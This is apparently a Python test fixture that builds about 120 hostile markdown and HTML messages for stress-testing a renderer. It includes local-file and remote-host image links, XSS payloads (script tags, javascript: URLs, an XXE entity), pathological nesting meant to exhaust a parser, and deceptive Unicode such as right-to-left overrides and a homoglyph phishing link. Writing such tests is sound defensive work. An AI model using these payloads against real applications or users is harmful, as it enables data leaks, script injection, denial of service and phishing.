"""120 messages that try to have something opened, to hold the window, or to deceive the eye."""

from __future__ import annotations

from collections.abc import Iterator


def hostile_messages(file: str, address: str) -> list[str]:
    """Return the messages. file: the path of a file nobody may open; address: host:port of a listener."""
    return [
        *_opening(f"file://{file}", file),
        *_connecting(address),
        *_html(f"file://{file}", address),
        *_deep(),
        *_deceiving(),
    ]


def _opening(url: str, path: str) -> Iterator[str]:
    for target in (url, path, f"{url}?x", url.upper(), url.replace("file://", "file:"), url.replace("/", "%2f"),
                   "\\\\127.0.0.1\\share\\x.png", f"//127.0.0.1{path}", f"qrc:{path}", f":{path}", f"image://{path}",
                   "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'/>",
                   "data:image/png;base64," + "A" * 200_000,
                   f"vscode:{path}", f"smb://127.0.0.1{path}"):  # fmt: skip
        yield f"![x]({target})"
        yield f"[x]({target}) <{target}>"
    yield f"![x][1]\n\n[1]: {url}"
    yield f"[1]: {url} 'title'\n\n[1] ![1]"
    yield f"![a ![b]({url})]({url})"
    yield f"[![click]({url})]({url})"
    yield f"| ![x]({url}) |\n|---|\n| ![y]({url}) |"
    yield f"- [ ] ![x]({url})\n> ![y]({url})"
    yield f"```html\n<img src='{url}'>\n```"
    yield f"\\[\\includegraphics{{{path}}}\\] $\\input{{{path}}}$ \\(\\href{{{url}}}{{x}}\\)"


def _connecting(address: str) -> Iterator[str]:
    for scheme in ("http", "https", "ws", "ftp", "HTTP"):
        yield f"![x]({scheme}://{address}/a.png)"
        yield f"[x]({scheme}://{address}/a) {scheme}://{address}/b <{scheme}://{address}/c>"
    yield f"![x](http://{address}/?q=everything%20said 'title')"
    yield f"[x](http://user:password@{address}/)"
    yield f"![x](//{address}/a.png)"
    yield f"[x]: http://{address}/a\n\n![x]"
    yield f"$\\href{{http://{address}}}{{x}}$"
    yield f"<http://{address}/" + "a" * 5000 + ">"


def _html(url: str, address: str) -> Iterator[str]:
    http = f"http://{address}/x"
    yield from (
        f"<img src='{url}'>", f"<img src={http} onerror=alert(1)>", f"<link rel=stylesheet href='{http}'>",
        f"<style>@import url({http}); body {{ background: url('{url}') }}</style>", f"<iframe src='{url}'></iframe>",
        f"<svg><image href='{url}'/><use href='{http}#x'/></svg>", f"<object data='{url}'></object>",
        f"<a href='javascript:alert(1)'>x</a><a href='{url}'>y</a>", "<script>alert(1)</script>",
        f"<table background='{url}'><tr><td background='{http}'>x</table>", f"<body background='{url}'>",
        f"<div style=\"background-image:url('{url}')\">x</div>", f"<qt><img src='{url}'></qt>", f"<p><img src='{url}'>",
        f"<!DOCTYPE html [<!ENTITY x SYSTEM '{url}'>]><html>&x;</html>",
        f"<meta http-equiv=refresh content='0;url={http}'>",
        "&#x3c;img src=x&#x3e; &lt;script&gt;", f"<audio src='{http}' autoplay>", f"<base href='{http}'>![x](a.png)",
        f"<form action='{http}'><input></form>",
        "[x](javascript:alert(1)) [y](JaVaScRiPt:alert(1)) [z](data:text/html,x)",
        "[x](java\tscript:alert(1)) [y](&#106;avascript:alert(1)) [z](vbscript:x)",
        "<!-- \n" * 2000, "<![CDATA[" * 2000,
    )  # fmt: skip


def _deep() -> Iterator[str]:
    yield ">" * 10_000 + "x"
    yield "- " * 10_000 + "x"
    yield "\n".join("  " * level + "- x" for level in range(600))
    yield "[" * 10_000 + "x" + "]" * 10_000
    yield "![" * 5_000 + "x" + "](y)" * 5_000
    yield "*" * 20_000 + "x" + "*" * 20_000
    yield "*a **b " * 5_000
    yield "`" * 10_000 + " " + " ".join("`" * count for count in range(1, 150))
    yield "$" * 10_000
    yield "\\(" * 5_000
    yield "\\[\n" * 5_000
    yield "$" + "{" * 900 + "x" + "}" * 900 + "$"
    yield "$$" + "\\frac{" * 200 + "x" + "}{y}" * 200 + "$$"
    yield "$" + "x^{" * 300 + "y" + "}" * 300 + "$"
    yield "\\(\\def\\a{\\a\\a}\\a\\) $\\newcommand{\\b}{\\b\\b}\\b$ \\[" + "\\sqrt{" * 100 + "x" + "}" * 100 + "\\]"
    yield "$" + "\\begin{matrix}" * 50 + "x" + "\\end{matrix}" * 50 + "$"
    yield " ".join(f"$x_{{{number}}}^2$" for number in range(400))
    yield "|a" * 2_000 + "|\n" + "|-" * 2_000 + "|\n" + ("|b" * 2_000 + "|\n") * 20
    yield "|a|b|\n|-|-|\n" + "|c|d|\n" * 5_000
    yield "|" * 20_000 + "\n" + "|-" * 20_000
    yield "x" * 200_000
    yield "x\n" * 60_000
    yield "\n" * 50_000
    yield "```" + "python\n" + "def f(): pass  # '''\n" * 4_000
    yield "```\n" + "x" * 100_000
    yield "~~~" * 5_000
    yield "<think>" * 5_000 + "x"
    yield "<think>\n" + "> - " * 500 + "x"
    yield "1. x\n" * 3_000
    yield "# " * 5_000 + "x"
    yield "a&b;&amp" * 10_000
    yield "http://" * 10_000
    yield "https://a.example/" + "(" * 5_000
    yield "_".join("a" for _ in range(20_000))
    yield "=\n---\n***\n" * 3_000
    yield "\t" * 5_000 + "x"
    yield "```" + "a" * 10_000 + "\n" + '"' * 3_000 + "\n```"
    yield "```json\n" + "[" * 20_000 + "\n```"
    yield "```html\n" + "<a b='" * 3_000 + "\n```"


def _deceiving() -> Iterator[str]:
    yield "\u202egnp.exe\u202c [paypal](https://\u202e.example)"
    yield "\u2066\u2067\u2068" * 3_000 + "x"
    yield "\u200b\u200d\ufeff" * 3_000 + "**x**"
    yield "a" + "\u0300" * 20_000
    yield "[https://bank.example](https://evil.example) https://b\u0430nk.example"
    yield "\ufffc" * 500 + "\u2028\u2029" * 500
    yield "\x00\x01\x07\x1b[31m\x7f" * 200
    yield "😀" * 5_000 + "\U0010ffff" + "👨\u200d👩\u200d👧" * 500
    yield "\u05d0\u05d1 `x` **\u0627\u0644** 1 2 \u202ez" * 300
    yield "\ud83d" + "x" + "\udc00"
